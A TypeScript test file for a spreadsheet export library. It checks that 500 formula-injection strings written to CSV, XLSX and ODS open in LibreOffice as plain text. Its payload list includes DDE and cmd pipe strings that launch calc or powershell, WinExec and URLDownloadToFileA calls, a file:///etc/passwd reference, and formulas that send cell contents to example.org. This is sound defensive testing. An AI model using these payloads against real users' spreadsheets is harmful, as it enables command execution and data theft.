// Goal: LibreOffice makes no formula of any of 500 hostile texts, in a file of any kind. Needs LibreOffice.
import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { promisify } from 'node:util'
import { expect, test } from 'vitest'
import { writeCsv } from './csv.ts'
import { type Workbook, workbookXlsx } from './workbook.ts'
import { workbookOds } from './workbook-ods.ts'

const run = promisify(execFile)
const officeMs = 300_000
/** Semicolons, UTF-8, and formulas worked out: as unwise as somebody can open it. */
const unwiseCsv = 'CSV:59,34,76,1,,0,false,true,false,false,false,0,true'

const beginnings = [
  ...['=', '+', '-', '@', '==', '=+', '+=', '-=', '@='],
  ...['\t=', '\r=', '\n=', '\r\n=', ' =', '\u00a0=', '\ufeff='],
  ...['\uff1d', '"=', "'=", ';='],
]
const bodies = [
  ...['1+1', 'A1', '$A$1', 'SUM(A1:A9)', '2*3', 'TRUE()', 'NOW()', 'PI()', 'RAND()', 'ROW()'],
  'HYPERLINK("https://example.org","klik")',
  'HYPERLINK("https://example.org/?"&A1;"klik")',
  'WEBSERVICE("https://example.org")',
  'DDE("cmd";"/C calc";"x")',
  "cmd|' /C calc'!A0",
  "cmd|'/C powershell'!'A1'",
  "2+5+cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("https://example.org/?v=",A1),"//a")',
  'IMAGE("https://example.org/x.png")',
  'INDIRECT("A1")',
  "'file:///etc/passwd'#$passwd.A1",
  'EXEC("calc")',
  'CALL("kernel32","WinExec","JFJ",A1)',
  'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ")',
  'CHAR(61)&A1',
]
const hostile = beginnings.flatMap(beginning => bodies.map(body => beginning + body))

const workbook: Workbook = {
  title: '=1+1',
  language: 'nl',
  names: [],
  sheets: [
    {
      name: 'Blad',
      widths: [40],
      frozen: { rows: 0, columns: 0 },
      rows: hostile.map(value => [{ value, format: 'text' }]),
    },
  ],
}

/** How many formulas and texts LibreOffice found in a file. */
async function opened(
  content: string | Uint8Array,
  ending: string,
): Promise<{ formulas: number; texts: number }> {
  const folder = await mkdtemp(join(tmpdir(), 'versneller-formulas-'))
  try {
    const file = join(folder, `a.${ending}`)
    await writeFile(file, content)
    const words = [
      `-env:UserInstallation=${pathToFileURL(join(folder, 'profile'))}`,
      ...['--headless', '--norestore', '--convert-to', 'fods', '--outdir', folder],
      ...(ending === 'csv' ? [`--infilter=${unwiseCsv}`] : []),
      file,
    ]
    await run('soffice', words, { timeout: officeMs })
    const found = await readFile(join(folder, 'a.fods'), 'utf8')
    return {
      formulas: found.match(/table:formula=/g)?.length ?? 0,
      texts: found.match(/office:value-type="string"/g)?.length ?? 0,
    }
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
}

test('there are five hundred of them, and LibreOffice would make formulas of many', async () => {
  expect(hostile.length).toBe(500)
  const unguarded = hostile.map(text => `"${text.replaceAll('"', '""')}"`).join('\r\n')
  expect((await opened(unguarded, 'csv')).formulas).toBeGreaterThan(50)
})

test.each([
  ['csv', async () => writeCsv(hostile.map(text => [text]))],
  ['xlsx', () => workbookXlsx(workbook)],
  ['ods', () => workbookOds(workbook)],
])('a file of them as %s holds texts and no formula', async (ending, write) => {
  expect(await opened(await write(), ending)).toEqual({ formulas: 0, texts: 500 })
})
